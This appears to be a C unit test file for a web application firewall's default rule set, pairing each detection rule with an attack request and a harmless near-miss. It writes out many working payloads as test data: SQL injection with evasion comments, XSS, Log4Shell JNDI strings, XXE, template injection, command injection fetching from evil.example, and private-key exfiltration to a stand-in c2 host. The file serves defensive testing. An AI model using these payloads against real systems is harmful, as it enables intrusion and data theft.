// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * The bundled default rule set (rules/sets/): every rule has an attack that
 * fires it and a benign near-miss that fires nothing at all; the demo's
 * requests do what the demo says; ordinary traffic fires nothing.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>

#include <cmocka.h>

#include "rules/rules.h"
#include "test_rules_util.h"

#define FIREFOX                                                     \
	"Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 " \
	"Firefox/120.0"
#define CHROME                                                          \
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 " \
	"(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"

/*
 * One request: a method and URI, optionally one header that replaces or
 * adds to the browser-like defaults, optionally a body.
 */
struct probe {
	const char *method;
	const char *uri;
	const char *hname;
	const char *hval;
	const char *body;
	/* a request a process on this host sent (its comm and exe), or NULL:
	 * a request the server received, from no particular process */
	const char *out_comm;
	const char *out_exe;
};

#define A10 "aaaaaaaaaa"
#define A100 A10 A10 A10 A10 A10 A10 A10 A10 A10 A10
#define A1000 A100 A100 A100 A100 A100 A100 A100 A100 A100 A100
#define PAD3000 A1000 A1000 A1000

/*
 * Rules with no row in the table: no request makes a rule of the set give
 * up, so 100001 (a pattern gave up) is tried with a rule added for it
 * (test_engine_limit_is_denied).
 */
static const uint32_t tested_apart[] = { 100001 };

/* A rule, one attack on it, one near-miss that must fire nothing. */
struct row {
	uint32_t id;
	struct probe attack;
	struct probe near;
};

#define GET(u)                                         \
	{                                              \
		"GET", u, NULL, NULL, NULL, NULL, NULL \
	}
#define HDR(n, v)                                  \
	{                                          \
		"GET", "/", n, v, NULL, NULL, NULL \
	}
#define POST(u, b)                                   \
	{                                            \
		"POST", u, NULL, NULL, b, NULL, NULL \
	}
/* A multipart/form-data body with one file part. */
#define UPLOAD(fname, content)                                                   \
	{                                                                        \
		"POST", "/upload", "Content-Type",                               \
			"multipart/form-data; boundary=b0",                      \
			"--b0\r\n"                                               \
			"Content-Disposition: form-data; name=\"f\"; "           \
			"filename=\"" fname "\"\r\n"                             \
			"Content-Type: application/octet-stream\r\n\r\n" content \
			"\r\n--b0--\r\n",                                        \
			NULL, NULL                                               \
	}
/* A body of content type @ct. */
#define BODY(u, ct, b)                                       \
	{                                                    \
		"POST", u, "Content-Type", ct, b, NULL, NULL \
	}
#define JSON(u, b) BODY(u, "application/json", b)
#define XML(u, b) BODY(u, "application/xml", b)
/* Outbound: @comm (@exe) sent @m @u to Host @host with @b. */
#define OUT(comm, exe, m, u, host, b)            \
	{                                        \
		m, u, "Host", host, b, comm, exe \
	}

#define KEY "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n"

static const struct row rows[] = {
	/* 1007xx SSRF to cloud metadata services */
	{ 100700, GET("/fetch?url=http://169.254.169.254/latest/meta-data/"),
	  GET("/docs?q=link-local+169.254.1.1+and+169.254.169.2540") },
	{ 100700, GET("/fetch?url=http%3A%2F%2Fmetadata.google.internal%2F"),
	  GET("/search?q=google+metadata+internal+docs") },
	{ 100700, POST("/hook", "url=http://2852039166/latest/user-data"),
	  POST("/pay", "amount=2852039166&currency=EUR") },
	{ 100700, GET("/fetch?url=http://[fd00:ec2::254]/latest/"),
	  GET("/fetch?url=http://[fd00:ec2::25]/x") },
	{ 100700, GET("/fetch?u=http://0251.0376.0251.0376/"),
	  GET("/v?ver=0251.0376") },
	/* 1008xx webshell uploads */
	{ 100800, UPLOAD("shell.php", "x"), UPLOAD("report.pdf", "%PDF-1.4") },
	{ 100800, UPLOAD("avatar.php.jpg", "x"), UPLOAD("php-guide.txt", "x") },
	{ 100800, UPLOAD("cmd.jspx", "x"), UPLOAD("notes.phpx", "x") },
	{ 100801, POST("/save", "c=<?php+@eval($_POST['x']);+?>"),
	  POST("/post", "text=use+eval()+with+care+in+php,+not+$_POST") },
	{ 100801, UPLOAD("a.txt", "<?php system(base64_decode($_GET[c])); ?>"),
	  UPLOAD("b.txt", "<?php echo htmlspecialchars($_GET['q']); ?>") },
	/* 1009xx outbound */
	{ 100900,
	  OUT("python3", "/usr/bin/python3.11", "POST", "/api/api_post.php",
	      "pastebin.com", "api_paste_code=secrets"),
	  OUT("python3", "/usr/bin/python3.11", "GET", "/raw/abc",
	      "pastebin.com", NULL) },
	{ 100900,
	  OUT("curl", "/usr/bin/curl", "PUT", "/exfil.tar", "transfer.sh",
	      "data"),
	  OUT("curl", "/usr/bin/curl", "PUT", "/upload", "transfer.example",
	      "data") },
	{ 100901,
	  OUT("curl", "/usr/bin/curl", "GET", "/install.sh", "get.example",
	      NULL),
	  OUT("curl", "/usr/bin/curl", "GET", "/install.sh.sig", "get.example",
	      NULL) },
	{ 100901,
	  OUT("wget", "/usr/bin/wget", "GET", "/x/run.bash", "1.2.3.4", NULL),
	  OUT("python3", "/usr/bin/python3.11", "GET", "/x/run.bash", "1.2.3.4",
	      NULL) },
	{ 100902,
	  OUT("python3", "/usr/bin/python3.11", "POST", "/collect",
	      "c2.example", "k=" KEY),
	  OUT("ssh", "/usr/bin/ssh", "POST", "/collect", "c2.example",
	      "k=" KEY) },
	{ 100902,
	  OUT("curl", "/usr/bin/curl", "POST", "/u", "x.example",
	      "-----BEGIN RSA PRIVATE KEY-----\nMIIE"),
	  OUT("curl", "/usr/bin/curl", "POST", "/u", "x.example",
	      "-----BEGIN PUBLIC KEY-----\nMIIB") },
	/* 1001xx SQL injection */
	{ 100100, GET("/search?q=1'+UNION+SELECT+password+FROM+users--"),
	  GET("/search?q=trade+union+select+committee+report") },
	{ 100100, GET("/item?id=1+union+all+select+null,null--"),
	  GET("/search?q=union+selected+from+members") },
	{ 100100, GET("/item?id=1/**/UNION/**/SELECT/**/1,2"),
	  GET("/search?q=credit+union+select+account") },
	{ 100100, POST("/search", "q=x%27%20union%20select%20version()"),
	  POST("/search", "q=union+rates&select=savings") },
	/* MySQL separators: # and -- comments to the line end, versioned
	 * comments, DISTINCTROW, a user keyword for a column */
	{ 100100, GET("/item?id=1+UNION%23x%0aSELECT+1,2"),
	  GET("/search?q=union%2342+select+committee") },
	{ 100100, GET("/item?id=1+UNION--+x%0aSELECT+1,2"),
	  GET("/search?q=credit+union--select+a+plan") },
	{ 100100, GET("/item?id=1+/*!50000UNION*/+SELECT+1,2"),
	  GET("/search?q=/*!50000unions*/+selected") },
	{ 100100, GET("/item?id=1+UNION+/*!SELECT*/+1,2"),
	  GET("/search?q=union+/*!selection*/+1") },
	{ 100100, GET("/item?id=1+UNION+DISTINCTROW+SELECT+1,2"),
	  GET("/search?q=union+distinctrow+selection+guide") },
	{ 100100, GET("/item?id=-1+UNION+SELECT+current_user"),
	  GET("/search?q=union+select+current+user+list") },
	{ 100101, GET("/login?user=admin'+or+'1'='1"),
	  GET("/search?q=tea'+or+'coffee'='tea") },
	{ 100101, GET("/item?id=1+or+1=1"), GET("/item?id=1+or+1=10") },
	/* a long word before the '=' (an atomic group: no backtracking into
	 * it, so padding cannot make the pattern give up) */
	{ 100101, GET("/item?id=1+or+" PAD3000 "+=+b+x'+or+1=1--"),
	  GET("/item?id=1+or+" PAD3000 "+=+b") },
	{ 100101, HDR("Cookie", "session=x' OR 'a'='a"),
	  HDR("Cookie", "session=ab12cd34; theme=dark") },
	/* no blank after or / || when a quote or a digit follows */
	{ 100101, GET("/login?user=admin'or'1'='1"),
	  GET("/login?user=admin'or'1'='2") },
	{ 100101, GET("/login?user=admin'||1=1--"),
	  GET("/login?user=admin'||1=12") },
	{ 100102, GET("/item?id=1+and+sleep(5)"),
	  GET("/search?q=sleep+(8+hours)+a+night") },
	{ 100102, GET("/item?id=1;select+benchmark(1000000,md5(1))"),
	  GET("/search?q=benchmark+(2024)+results") },
	{ 100102, GET("/item?id=1';waitfor+delay+'0:0:5'--"),
	  GET("/search?q=waitfor+delay+notification") },
	{ 100103, GET("/item?id=1;+DROP+TABLE+users"),
	  GET("/search?q=drop+table+tennis") },
	{ 100103, GET("/item?id=1;exec+xp_cmdshell('dir')"),
	  GET("/search?q=notes;+drop+a+line") },
	/* 1002xx cross-site scripting */
	{ 100200, GET("/search?q=<script>alert(1)</script>"),
	  GET("/search?q=<scripture>+reading") },
	{ 100200, GET("/search?q=%253Cscript%253Ealert(1)"),
	  GET("/search?q=script+tag+tutorial") },
	{ 100201, GET("/go?url=javascript:alert(document.domain)"),
	  GET("/search?q=javascript:+the+good+parts") },
	{ 100201, GET("/go?url=JaVaScRiPt:window['al'%2B'ert'](1)"),
	  GET("/go?url=https://example.com/javascript/") },
	/* javascript:void(0) is the do-nothing link of every web page */
	{ 100201, GET("/go?url=javascript:void(alert(1))"),
	  POST("/post", "html=<a+href=\"javascript:void(0)\">x</a>") },
	{ 100201, GET("/go?url=javascript:void(0);alert(1)"),
	  POST("/post", "html=<a+href=\"javascript:void(0);\">menu</a>") },
	{ 100201, GET("/go?url=javascript:eval(atob('YQ'))"),
	  GET("/go?url=javascript:void+0") },
	/* a tab or a line end inside the scheme, which browsers drop, and
	 * character references for them and for the colon */
	{ 100201, GET("/go?url=java%09script:alert(1)"),
	  GET("/go?url=java+script:alert(1)") },
	{ 100201,
	  POST("/post", "html=<a+href=\"jav%26%23x09;ascript:alert(1)\">"),
	  POST("/post", "html=<a+href=\"jav%26%23x09;ascript:void(0)\">") },
	{ 100201, GET("/go?url=JAVA%26Tab;SCRIPT%26colon;alert(1)"),
	  GET("/search?q=javascript%26colon;+the+good+parts") },
	{ 100201, GET("/go?u=java%0d%0ascript%26%2358;alert(1)"),
	  GET("/go?u=java%0d%0aisland%26%2358;alert(1)") },
	{ 100202, GET("/search?q=<img+src=x+onerror=alert(1)>"),
	  GET("/search?q=onerror=retry") },
	{ 100202, GET("/c?m=<svg/onload=alert(1)>"),
	  GET("/c?m=<b>online=yes</b>") },
	{ 100202, GET("/search?q=<input+autofocus+onfocusin=alert(1)>"),
	  GET("/search?q=<p>onfocusin=fired</p>") },
	{ 100202, GET("/search?q=<body+onpageshow=alert(1)>"),
	  GET("/c?m=<a+class=online+href=/on>x</a>") },
	/* 1003xx path traversal, local file inclusion */
	{ 100300, GET("/download?file=..%2F..%2F..%2Fapp.conf"),
	  GET("/docs?see=../guide") },
	{ 100300, GET("/download?file=..\\..\\boot"),
	  GET("/search?q=wait...+for+it/") },
	{ 100300, GET("/download?file=..//..//..//app/config.yml"),
	  GET("/docs?see=..//guide") },
	{ 100300, GET("/download?file=..;/..;/app/config.yml"),
	  GET("/search?q=wait..;/+ok") },
	{ 100301, GET("/view?page=/etc/passwd"),
	  GET("/account/etc/password-reset") },
	{ 100301, GET("/view?page=....//....//proc/self/environ"),
	  GET("/search?q=proc+self+help") },
	/* 1004xx command injection */
	{ 100400, GET("/ping?host=127.0.0.1;cat+/etc/passwd"),
	  GET("/search?q=dogs;+cat+pictures") },
	{ 100400, GET("/ping?host=x|tail+-n+5+/var/log/syslog"),
	  GET("/search?q=head+and+tail+of+a+list") },
	/* after a line feed, only a command that ends with its file */
	{ 100400, GET("/ping?host=127.0.0.1%0acat+/etc/hosts"),
	  POST("/post", "body=To+check+run%0acat+/etc/os-release+and+paste") },
	{ 100400, POST("/ping", "host=1%0d%0ahead+-5+/etc/hosts+2>%261%0d%0a"),
	  POST("/post", "body=see%0d%0amore+/home/alice/notes+for+details") },
	{ 100401, GET("/ping?host=1.2.3.4|wget+http://evil.example/x.sh"),
	  GET("/search?q=curl+https://example.com+tutorial") },
	{ 100401, GET("/ping?host=x%26%26whoami"),
	  GET("/search?q=whoami+command") },
	{ 100401, GET("/ping?host=x;+bash+-i"),
	  GET("/search?q=bash+-i+flag+meaning") },
	/* a bare id is a field list or a cookie flag, not a command */
	{ 100401, GET("/ping?host=x;/bin/id"),
	  GET("/api/items?fields=name|id") },
	{ 100401, GET("/ping?host=x|id+-u"), HDR("Cookie", "lang=en; id") },
	{ 100402, GET("/ping?host=$(whoami)"),
	  GET("/search?q=costs+$(5)+each") },
	{ 100403, GET("/ping?host=`id`"), GET("/search?q=the+`cat`+command") },
	/* 1005xx Log4Shell */
	{ 100500, HDR("X-Api-Version", "${jndi:ldap://evil.example/a}"),
	  HDR("X-Template", "${user.name}") },
	{ 100500, HDR("User-Agent", "${${lower:j}ndi:ldap://x/a}"),
	  GET("/search?q=jndi:+lookup+docs") },
	{ 100500, GET("/?x=%24%7Bjndi%3Armi%3A%2F%2Fx%2Fa%7D"),
	  GET("/?tpl=%24%7Bname%7D") },
	/* any lookup nested in another */
	{ 100500, HDR("X-Api-Version", "${${base64:SmFWYQ==}ndi:ldap://x/a}"),
	  HDR("X-Template", "${user}${lang:en}") },
	{ 100500,
	  HDR("X-Api-Version", "${${k8s:k5:-J}${k8s:k5:-ndi}:ldap://x/a}"),
	  HDR("X-Template", "${greeting:-hello}") },
	/* 1006xx scanners */
	{ 100600, HDR("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
	  HDR("User-Agent", "Mozilla/5.0 (compatible; sql-map-viewer/1.0)") },
	{ 100600,
	  HDR("User-Agent",
	      "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
	  HDR("User-Agent", CHROME) },
	{ 100600,
	  HDR("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; "
			    "https://nmap.org/book/nse.html)"),
	  HDR("X-Tool", "nmap") },
	/* 100104: the database's catalog, files, error-based extraction */
	{ 100104, GET("/item?id=1+and+extractvalue(1,concat(0x7e,user()))"),
	  GET("/search?q=extract+value+from+xml") },
	{ 100104,
	  GET("/item?id=1+and+1=(select+count(*)+from+information_schema."
	      "tables)"),
	  GET("/docs?topic=information+schema+design") },
	{ 100104, POST("/item", "id=1'+into+outfile+'/var/www/s.php"),
	  POST("/post", "text=put+it+into+a+file+on+the+desk") },
	/* 100203: frames, objects, script URLs */
	{ 100203, GET("/c?m=<iframe+src=//evil.example/x>"),
	  GET("/docs?q=List<Object>+in+Java") },
	{ 100203, GET("/go?url=vbscript:msgbox(1)"),
	  GET("/search?q=vbscript+tutorial") },
	{ 100203, GET("/c?m=<object+data=data:text/html;base64,PHNjcmlwdD4>"),
	  GET("/c?m=<b>bold</b>+and+<i>italic</i>") },
	{ 100203, GET("/c?m=<base+href=//evil.example/>"),
	  GET("/search?q=<base>+case+of+a+recursion") },
	/* 100302: PHP wrappers, secret files */
	{ 100302,
	  GET("/index.php?page=php://filter/convert.base64-encode/"
	      "resource=index"),
	  GET("/docs?q=php+filter+functions") },
	{ 100302, GET("/.git/config"), GET("/blog/.github-actions-guide") },
	{ 100302, GET("/.env"), GET("/environment/settings") },
	{ 100302, GET("/download?f=../wp-config.php"),
	  GET("/wp-content/themes/config/page") },
	/* 100404, 100405: Shellshock, server-side includes */
	{ 100404, HDR("User-Agent", "() { :; }; /bin/bash -c 'id'"),
	  HDR("X-Code", "function () { return 1; }") },
	{ 100404, GET("/cgi-bin/status?x=()+{+:;+};+echo+hi"),
	  GET("/search?q=()+are+parentheses") },
	{ 100405, POST("/comment", "text=<!--%23exec+cmd=%22id%22+-->"),
	  POST("/comment", "text=<!--+a+comment+-->+%23hashtag") },
	/* 1010xx other injections */
	{ 101000,
	  XML("/api/xml", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x "
			  "SYSTEM \"file:///etc/hostname\">]><r>&x;</r>"),
	  XML("/api/xml",
	      "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
	      "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">"
	      "<html></html>") },
	{ 101000,
	  XML("/api/xml", "<!DOCTYPE r [<!ENTITY % p SYSTEM "
			  "\"http://evil.example/x.dtd\"> %p;]><r/>"),
	  XML("/api/xml", "<note>Declare an <!ENTITY> in the DTD</note>") },
	{ 101001, GET("/hello?name={{7*7}}"), GET("/hello?name={{name}}") },
	{ 101001,
	  GET("/hello?name={{''.__class__.__mro__[1].__subclasses__()}}"),
	  GET("/docs?q=python+__class__+attribute") },
	{ 101001, GET("/p?x=${T(java.lang.Runtime).getRuntime().exec('id')}"),
	  GET("/p?x=${total}+runtime") },
	{ 101002, HDR("Cookie", "session=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"),
	  HDR("Cookie", "session=aGVsbG8gd29ybGQ; ro0=1") },
	{ 101002, POST("/api", "data=aced0005737200"),
	  GET("/color?hex=aced00") },
	{ 101003, HDR("X-Forwarded-For", "%{(#cmd='id')}"),
	  HDR("X-Discount", "50%{off}") },
	{ 101003,
	  POST("/user", "class.module.classLoader.resources.context.parent."
			"pipeline.first.pattern=x"),
	  POST("/user", "class=premium&module=billing") },
	{ 101004,
	  POST("/profile",
	       "data=O:8:%22stdClass%22:1:{s:4:%22user%22;s:5:%22admin%22;}"),
	  POST("/profile", "data=a:1:{s:4:%22user%22;s:3:%22ann%22;}") },
	{ 101005, GET("/api?__proto__[admin]=1"),
	  GET("/docs?q=proto+buffers") },
	{ 101005, GET("/api?constructor[prototype][admin]=1"),
	  GET("/docs?q=constructor+and+prototype") },
	{ 101006, POST("/login", "user=admin&pass[$ne]=x"),
	  POST("/shop", "price=$5&qty[]=2") },
	{ 101006,
	  JSON("/login", "{\"user\":\"admin\",\"pass\":{\"$ne\":null}}"),
	  JSON("/shop", "{\"price\":\"$ne\",\"qty\":2}") },
};

/* Ordinary traffic: nothing may fire. */
static const struct probe benign[] = {
	GET("/"),
	GET("/search?q=union+station+timetable"),
	/* what this host's own clients send every day */
	OUT("apt", "/usr/lib/apt/methods/http", "GET",
	    "/debian/dists/bookworm/InRelease", "deb.debian.org", NULL),
	OUT("curl", "/usr/bin/curl", "GET", "/releases/tool.tar.gz",
	    "github.com", NULL),
	OUT("python3", "/usr/bin/python3.11", "POST", "/v1/events",
	    "api.example", "{\"name\":\"login\",\"user\":\"alice\"}"),
	OUT("ssh", "/usr/bin/ssh", "POST", "/keys", "vault.example", "k=" KEY),
	POST("/keys", "pub=-----BEGIN+PUBLIC+KEY-----"),
	/* a server receiving a key is not an exfiltration from this host */
	POST("/import", "k=-----BEGIN+OPENSSH+PRIVATE+KEY-----"),
	GET("/products?category=shoes&sort=price_asc&page=2"),
	GET("/search?q=rock+or+roll"),
	GET("/search?q=1+or+2"),
	GET("/search?q=O'Reilly+and+Associates"),
	GET("/blog/2024/01/how-to-sleep-better"),
	GET("/static/js/app.min.js?v=3.2.1"),
	GET("/search?q=select+a+union+rep"),
	POST("/login", "username=alice&password=s3cr3t%21"),
	HDR("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.x"),
	HDR("Referer", "https://shop.example/search?q=union+station"),
	HDR("Accept", "application/json, text/plain, */*"),
	HDR("User-Agent", "curl/7.88.1"),
	HDR("User-Agent", CHROME),
	GET("/api/items?fields=title;id"),
	GET("/api/items?fields=id,name&sort=id|desc"),
	HDR("Cookie", "_ga=GA1.2.1234.5678; _gid=GA1.2.99; id=5"),
	HDR("Accept-Encoding", "gzip, deflate, br"),
	POST("/api", "{\"name\":\"x\",\"tags\":[\"a\",\"b\"],"
		     "\"q\":\"shoes and boots\"}"),
	POST("/post", "text=Line+one%0d%0aLine+two%0d%0a%0d%0aThanks"),
};

struct defset {
	struct tset t;
};

static int setup(void **state)
{
	struct enf_rules_builder *b = NULL;
	struct enf_rule_error err = { 0 };
	struct defset *d = calloc(1, sizeof(*d));
	char dir[4096];
	int ret;

	if (!d)
		return -1;
	if (!tsrc_path(dir, sizeof(dir), "rules/sets")) {
		fprintf(stderr, "ENF_SOURCE_DIR is not set\n");
		free(d);
		return -1;
	}
	ret = enf_rules_builder_new(&b);
	if (!ret)
		ret = enf_rules_builder_add_dir(b, dir, &err);
	if (ret > 0)
		ret = enf_rules_build(b, &d->t.rs, &err);
	if (!ret)
		ret = enf_rules_scratch_new(d->t.rs, &d->t.s);
	enf_rules_builder_free(b);
	if (ret) {
		fprintf(stderr, "default set refused (%d) at %s:%u:%u: %s\n",
			ret, err.origin, err.line, err.column, err.msg);
		tset_free(&d->t);
		free(d);
		return -1;
	}
	*state = d;
	return 0;
}

static int teardown(void **state)
{
	struct defset *d = *state;

	if (!d)
		return 0;
	tset_free(&d->t);
	free(d);
	return 0;
}

static void build_probe(struct treq *req, const struct probe *p)
{
	static struct enf_req_origin o;

	treq_init(req, p->method, p->uri);
	if (!p->hname || strcmp(p->hname, "Host"))
		treq_header(req, "Host", "shop.example");
	if (!p->hname || strcmp(p->hname, "User-Agent"))
		treq_header(req, "User-Agent", FIREFOX);
	treq_header(req, "Accept",
		    "text/html,application/xhtml+xml,application/xml;q=0.9,"
		    "*/*;q=0.8");
	treq_header(req, "Accept-Language", "en-US,en;q=0.5");
	if (p->hname)
		treq_header(req, p->hname, p->hval);
	if (p->body) {
		if (!p->hname || strcmp(p->hname, "Content-Type"))
			treq_header(req, "Content-Type",
				    "application/x-www-form-urlencoded");
		treq_body(req, p->body);
	}
	if (p->out_comm) {
		memset(&o, 0, sizeof(o));
		o.comm = p->out_comm;
		o.exe = p->out_exe;
		o.tls_lib = "openssl";
		o.direction = ENF_REQ_OUTBOUND;
		o.tuple.family = ENF_FAMILY_V4;
		o.tuple.sport = htons(443);
		o.tuple.dport = htons(40000);
		memcpy(o.tuple.saddr, "\xc6\x33\x64\x09", 4); /* the server */
		req->req.origin = &o;
	}
}

static void describe(const struct probe *p, char *buf, size_t len)
{
	snprintf(buf, len, "%s%s%s%s %s%s%s%s%s%s",
		 p->out_comm ? "outbound from " : "",
		 p->out_exe ? p->out_exe : "", p->out_comm ? ": " : "",
		 p->method, p->uri, p->hname ? " [" : "",
		 p->hname ? p->hname : "", p->hname ? ": " : "",
		 p->hname ? p->hval : "", p->hname ? "]" : "");
	if (p->body)
		snprintf(buf + strlen(buf), len - strlen(buf), " body '%s'",
			 p->body);
}

static void list_matches(const struct tmatches *m, char *buf, size_t len)
{
	buf[0] = '\0';
	for (size_t i = 0; i < m->n; i++)
		snprintf(buf + strlen(buf), len - strlen(buf), " %u(%s='%s')",
			 m->m[i].id, m->m[i].var, m->m[i].value);
}

static void test_rules_are_well_formed(void **state)
{
	struct defset *d = *state;
	size_t n = enf_ruleset_count(d->t.rs);

	assert_true(n >= 15);
	for (size_t i = 0; i < n; i++) {
		const struct enf_rule_info *r = enf_ruleset_rule(d->t.rs, i);

		if (r->id < 100000 || r->id > 199999)
			fail_msg("rule %u: id outside 100000-199999", r->id);
		if (!(r->actions & ENF_ACT_DENY))
			fail_msg("rule %u: does not deny", r->id);
		if (!*r->msg)
			fail_msg("rule %u: no msg", r->id);
		if (r->severity < 0)
			fail_msg("rule %u: no severity", r->id);
		if (strcmp(r->engine, "hyperscan") &&
		    strcmp(r->engine, "hyperscan+pcre2") &&
		    strcmp(r->engine, "pcre2") &&
		    strcmp(r->engine, "literal") &&
		    strcmp(r->engine, "numeric"))
			fail_msg("rule %u: runs on %s", r->id, r->engine);
	}
}

static void test_every_rule_has_an_attack_and_a_near_miss(void **state)
{
	struct defset *d = *state;
	size_t n = enf_ruleset_count(d->t.rs);

	for (size_t i = 0; i < n; i++) {
		uint32_t id = enf_ruleset_rule(d->t.rs, i)->id;
		bool found = false;

		for (size_t k = 0; k < sizeof(rows) / sizeof(rows[0]); k++)
			found |= rows[k].id == id;
		for (size_t k = 0;
		     k < sizeof(tested_apart) / sizeof(tested_apart[0]); k++)
			found |= tested_apart[k] == id;
		if (!found)
			fail_msg("rule %u has no row in the attack table", id);
	}
	for (size_t k = 0; k < sizeof(rows) / sizeof(rows[0]); k++) {
		bool found = false;

		for (size_t i = 0; i < n; i++)
			found |= enf_ruleset_rule(d->t.rs, i)->id == rows[k].id;
		if (!found)
			fail_msg("table row for rule %u: no such rule",
				 rows[k].id);
	}
}

static void test_each_attack_fires_its_rule(void **state)
{
	struct defset *d = *state;
	int failures = 0;

	for (size_t k = 0; k < sizeof(rows) / sizeof(rows[0]); k++) {
		char what[512], got[2048];
		struct tmatches m;
		struct treq req;
		int n;

		build_probe(&req, &rows[k].attack);
		n = tset_match(&d->t, &req.req, &m);
		if (n < 0 || !tmatches_find(&m, rows[k].id)) {
			describe(&rows[k].attack, what, sizeof(what));
			list_matches(&m, got, sizeof(got));
			print_error(
				"rule %u: attack '%s' did not fire it (%d:%s)\n",
				rows[k].id, what, n, got);
			failures++;
		}
	}
	assert_int_equal(failures, 0);
}

static void test_each_near_miss_fires_nothing(void **state)
{
	struct defset *d = *state;
	int failures = 0;

	for (size_t k = 0; k < sizeof(rows) / sizeof(rows[0]); k++) {
		char what[512], got[2048];
		struct tmatches m;
		struct treq req;
		int n;

		build_probe(&req, &rows[k].near);
		n = tset_match(&d->t, &req.req, &m);
		if (n != 0) {
			describe(&rows[k].near, what, sizeof(what));
			list_matches(&m, got, sizeof(got));
			print_error("rule %u: near-miss '%s' fired (%d:%s)\n",
				    rows[k].id, what, n, got);
			failures++;
		}
	}
	assert_int_equal(failures, 0);
}

/* Whether @a and @b report the same rules on the same values. */
static bool same_matches(const struct tmatches *a, const struct tmatches *b)
{
	if (a->n != b->n)
		return false;
	for (size_t i = 0; i < a->n; i++)
		if (a->m[i].id != b->m[i].id ||
		    strcmp(a->m[i].var, b->m[i].var) ||
		    strcmp(a->m[i].value, b->m[i].value))
			return false;
	return true;
}

/*
 * The memo of clean values changes no match: every attack and near miss,
 * three times over (so that their shared headers and the values of one
 * request met again in another come from the memo), against the set with
 * its memo and against a scratch without one.
 */
static void test_memo_changes_no_match(void **state)
{
	struct defset *d = *state;
	struct tset plain = { .rs = d->t.rs };
	uint64_t hits0 = enf_rules_scratch_memo_hits(d->t.s);
	int failures = 0;

	assert_int_equal(enf_rules_scratch_new(d->t.rs, &plain.s), 0);
	enf_rules_scratch_memo(plain.s, false);
	for (int round = 0; round < 3; round++) {
		for (size_t k = 0; k < 2 * (sizeof(rows) / sizeof(rows[0]));
		     k++) {
			const struct probe *p = k % 2 ? &rows[k / 2].near :
							&rows[k / 2].attack;
			char what[512], got[2048], want[2048];
			struct tmatches m, w;
			struct treq req;
			int n, nw;

			build_probe(&req, p);
			n = tset_match(&d->t, &req.req, &m);
			build_probe(&req, p);
			nw = tset_match(&plain, &req.req, &w);
			if (n == nw && same_matches(&m, &w))
				continue;
			describe(p, what, sizeof(what));
			list_matches(&m, got, sizeof(got));
			list_matches(&w, want, sizeof(want));
			print_error("round %d: '%s': with the memo %d:%s, "
				    "without %d:%s\n",
				    round, what, n, got, nw, want);
			failures++;
		}
	}
	assert_int_equal(failures, 0);
	/* the memo served: the shared headers at least */
	assert_true(enf_rules_scratch_memo_hits(d->t.s) - hits0 >
		    2 * sizeof(rows) / sizeof(rows[0]));
	enf_rules_scratch_free(plain.s);
}

static void test_ordinary_traffic_fires_nothing(void **state)
{
	struct defset *d = *state;
	int failures = 0;

	for (size_t k = 0; k < sizeof(benign) / sizeof(benign[0]); k++) {
		char what[512], got[2048];
		struct tmatches m;
		struct treq req;
		int n;

		build_probe(&req, &benign[k]);
		n = tset_match(&d->t, &req.req, &m);
		if (n != 0) {
			describe(&benign[k], what, sizeof(what));
			list_matches(&m, got, sizeof(got));
			print_error("benign '%s' fired (%d:%s)\n", what, n,
				    got);
			failures++;
		}
	}
	assert_int_equal(failures, 0);
}

static void test_demo_attack_is_denied(void **state)
{
	static const char *const uris[] = {
		"/search?q=1'+UNION+SELECT+password+FROM+users--",
		"/search?q=1'%20UNION%20SELECT%20password%20FROM%20users--",
	};
	struct defset *d = *state;

	for (size_t i = 0; i < sizeof(uris) / sizeof(uris[0]); i++) {
		const struct probe p = GET(uris[i]);
		const struct tmatch *hit;
		struct tmatches m;
		struct treq req;

		build_probe(&req, &p);
		assert_int_equal(tset_match(&d->t, &req.req, &m), 1);
		hit = tmatches_find(&m, 100100);
		if (!hit)
			fail_msg("demo attack '%s' did not fire 100100",
				 uris[i]);
		assert_string_equal(hit->var, "ARGS:q");
		assert_string_equal(hit->value,
				    "1' union select password from users--");
		assert_int_equal(enf_ruleset_rule(d->t.rs, 0)->actions &
					 ENF_ACT_DENY,
				 ENF_ACT_DENY);
	}
}

static void test_demo_benign_requests_pass(void **state)
{
	static const char *const uris[] = {
		"/",
		"/search?q=union+station+timetable",
	};
	struct defset *d = *state;

	for (size_t i = 0; i < sizeof(uris) / sizeof(uris[0]); i++) {
		const struct probe p = GET(uris[i]);
		struct tmatches m;
		struct treq req;
		int n;

		build_probe(&req, &p);
		n = tset_match(&d->t, &req.req, &m);
		if (n != 0)
			fail_msg("demo request '%s' fired %d rules (first %u)",
				 uris[i], n, m.n ? m.m[0].id : 0);
	}
}

/*
 * The tautology (100101) needs a backreference and a lookahead, and the
 * javascript: rule (100201) has a lookbehind: Hyperscan takes them as
 * prefilters, PCRE2 confirms their hits; every other rule runs on
 * Hyperscan alone, but the outbound chains, whose first rule compares
 * DIRECTION. No rule of the set is left to PCRE2 alone.
 */
static void test_two_prefiltered_rest_on_hyperscan(void **state)
{
	struct defset *d = *state;
	size_t n = enf_ruleset_count(d->t.rs);

	for (size_t i = 0; i < n; i++) {
		const struct enf_rule_info *r = enf_ruleset_rule(d->t.rs, i);
		/* the outbound chains start with DIRECTION "@streq ..." */
		bool pre = r->id == 100101 || r->id == 100201;
		const char *want = pre		       ? "hyperscan+pcre2" :
				   r->id == 100001     ? "numeric" :
				   r->id / 100 == 1009 ? "literal" :
							 "hyperscan";

		if (strcmp(r->engine, want))
			fail_msg("rule %u runs on %s, want %s", r->id,
				 r->engine, want);
		if (pre && strncmp(r->why, "prefilter: ", 11))
			fail_msg("rule %u: why is '%s'", r->id, r->why);
